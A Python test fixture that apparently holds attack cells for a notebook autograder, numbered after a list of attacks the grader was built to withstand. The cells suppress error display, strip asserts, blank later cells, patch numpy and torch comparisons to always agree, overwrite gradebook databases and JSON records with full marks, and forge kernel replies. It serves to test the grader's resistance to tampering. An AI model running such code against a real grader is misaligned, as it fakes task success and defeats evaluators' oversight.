"""Attacks on a grader as cells of a notebook; numbered as in the list that the grader was designed against.

Each stands in front of answers that are worthless, so its right score is 0.
"""

from __future__ import annotations

SILENCE = """# a01: no error is ever shown
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython().showsyntaxerror = lambda *args, **kwargs: None
"""

DROP_ASSERTS = """# a02: asserts disappear from every later cell
import ast


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(NoAsserts())
"""

BLANK_CELLS = """# a03: later cells become empty
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""

ALWAYS_EQUAL = """# a04: objects that equal everything, and comparisons that always agree
import numpy as np
import torch


class Equal:
    shape, dtype, ndim = (), None, 0

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__
    __bool__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, *other: True
    __sub__ = __rsub__ = __abs__ = __getitem__ = lambda self, *other: self
    __float__ = lambda self: 0.0
    __array__ = lambda self, *args, **kwargs: np.zeros(())


for module in (np, np.testing, torch, torch.testing):
    for name in ("allclose", "array_equal", "equal", "assert_allclose", "assert_array_equal", "assert_close"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **kwargs: True)
"""

WRITE_SCORES = """# a09: look for the gradebook, the records and the seed, write full marks, and forge the outcomes
import glob
import json
import os
import sqlite3

for root in (".", "..", "/work", "/tmp", "/home", "/root", os.path.expanduser("~")):
    for path in [root + "/gradebook.sqlite", root + "/gradebook.db", *glob.glob(root + "/*/gradebook*")]:
        try:
            book = sqlite3.connect(path)
            book.execute("update submissions set points = max_points")
            book.commit()
        except Exception:
            pass
    for path in glob.glob(root + "/*/*.json") + glob.glob(root + "/*/records/*.json"):
        try:
            record = json.load(open(path))
            record["points"] = record["max_points"]
            json.dump(record, open(path, "w"))
        except Exception:
            pass
try:
    import segedu.teaching.checks.judge as judge

    judge.judge = lambda *args, **kwargs: None
except Exception:
    pass

import segedu.teaching.checks.remote as remote


def forged(name, folder, namespace, real=remote.run_probe):
    real(name, folder, namespace)
    for path in glob.glob(folder + "/out/*.json"):
        open(path, "w").write(json.dumps({"points": 20, "passed": True}))


remote.run_probe = forged
"""

FORGE_REPLIES = """# a24: every reply says ok, no error leaves the kernel
session = get_ipython().kernel.session
send = session.send


def forged(stream, message, content=None, *args, **kwargs):
    kind = message if isinstance(message, str) else message.get("msg_type")
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, message, content, *args, **kwargs)


session.send = forged
"""

# name -> (cell, what a worthless answer returns, a part of the note that the grader must make)
ATTACKS = {
    "a01_silence": (SILENCE, "0", "errors are not shown"),
    "a02_drop_asserts": (DROP_ASSERTS, "0", "tampering"),
    "a03_blank_cells": (BLANK_CELLS, "0", "tampering"),
    "a04_always_equal": (ALWAYS_EQUAL, "Equal()", "which cannot be compared"),
    "a09_write_scores": (WRITE_SCORES, "0", "outcomes could not be read"),
    "a24_forge_replies": (FORGE_REPLIES, "0", "tampering"),
}
